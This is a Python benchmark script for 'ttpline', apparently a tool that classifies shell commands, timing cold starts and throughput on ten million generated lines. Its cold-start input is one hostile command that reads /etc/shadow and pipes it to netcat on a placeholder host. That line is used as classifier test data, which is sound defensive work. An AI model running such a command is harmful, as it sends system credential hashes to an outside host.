"""The command as a user meets it: cold start of one command, and ten million lines in bounded memory."""

import argparse
import os
import random
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from benchmarks import _result

SEED = 20260501
TTPLINE = [sys.executable, "-m", "ttpline"]
COLD_STARTS = 9
DISTINCT = 20_000
"""Distinct commands in the long file: enough that the cache of scored commands matters, few enough to wait for."""

PROGRAMS = (
    "ls -la",
    "cat",
    "grep -r x",
    "curl -s",
    "tar czf /tmp/x.tgz",
    "ssh ops@",
    "systemctl status",
    "find / -name",
)


def cold_start_s() -> float:
    """Median wall seconds of ``classify`` on one command, a new process each time."""
    times = []
    for _ in range(COLD_STARTS):
        start = time.perf_counter()
        subprocess.run(
            [*TTPLINE, "classify", "--from", "text", "--to", "jsonl:-"],
            input=b"cat /etc/shadow | nc 192.0.2.1 4444\n",
            capture_output=True,
            check=True,
        )
        times.append(time.perf_counter() - start)
    return statistics.median(times)


def write_lines(path: Path, lines: int) -> None:
    """``lines`` commands, ``DISTINCT`` of them different, the frequent ones much more frequent (Zipf)."""
    rng = random.Random(SEED)
    commands = [f"{rng.choice(PROGRAMS)} /srv/{rng.randrange(10**6)}/{number}" for number in range(DISTINCT)]
    weights = [1 / (rank + 1) for rank in range(DISTINCT)]
    with path.open("w") as file:
        for done in range(0, lines, 100_000):
            chosen = rng.choices(commands, weights, k=min(100_000, lines - done))
            file.write("\n".join(chosen) + "\n")


def long_file(lines: int) -> dict[str, float]:
    """Seconds and peak MiB of ``classify`` over a file of ``lines`` lines, JSON lines out."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "commands.txt"
        write_lines(path, lines)
        start = time.perf_counter()
        process = subprocess.Popen(
            [*TTPLINE, "classify", str(path), "--from", "text", "--to", f"jsonl:{folder}/out.jsonl"],
            stderr=subprocess.DEVNULL,
        )
        _, status, usage = os.wait4(process.pid, 0)
        if status:
            raise SystemExit(f"classify failed with status {status}")
        seconds = time.perf_counter() - start
        size = path.stat().st_size / 2**20
    return {
        "lines": lines,
        "input_mib": round(size, 1),
        "seconds": round(seconds, 2),
        "lines_per_s": round(lines / seconds),
        "peak_rss_mib": round(usage.ru_maxrss / 1024, 1),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--lines", type=int, default=10_000_000)
    lines = parser.parse_args().lines
    figures = {"seed": SEED, "cold_start_s": round(cold_start_s(), 3)}
    print(f"cold start {figures['cold_start_s']} s")
    sizes = [long_file(count) for count in (lines // 10, lines)]
    for size in sizes:
        print(size)
    print(_result.write("classify", {**figures, "long_files": sizes}))


if __name__ == "__main__":
    main()
